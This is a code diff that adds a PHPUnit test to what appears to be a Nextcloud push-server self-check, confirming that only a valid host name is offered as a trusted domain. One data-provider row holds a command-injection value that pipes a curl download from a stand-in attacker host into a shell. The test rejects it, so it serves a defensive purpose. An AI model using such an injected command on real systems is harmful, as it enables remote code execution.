@@ -41,6 +41,23 @@ class NextcloudTest extends SelfTestCase {
 		];
 	}
 
+	/** @dataProvider names */
+	public function testOnlyANameIsOfferedAsATrustedDomain(string $answered, array $missing): void {
+		$answer = "$answered is not configured as a trusted domain for the nextcloud server";
+		$check = $this->test(['nextcloud' => ['/test/reverse_cookie' => $answer]])['nextcloud'];
+		self::assertSame($missing, $check->missing);
+		self::assertSame($missing === [], !str_contains(self::repair($check), 'trusted_domains'));
+	}
+
+	public static function names(): array {
+		return [
+			['nc.lan:8080', ['trusted_domains' => ['nc.lan:8080']]],
+			['[fd00::1]:80', ['trusted_domains' => ['[fd00::1]:80']]],
+			['nc.lan;curl${IFS}evil.lan|sh', []],
+			['*', []],
+		];
+	}
+
 	public function testThePushServerTalksToAnotherNextcloud(): void {
 		$start = microtime(true);
 		$checks = $this->test(['nextcloud' => ['/test/reverse_cookie' => '12345']]);
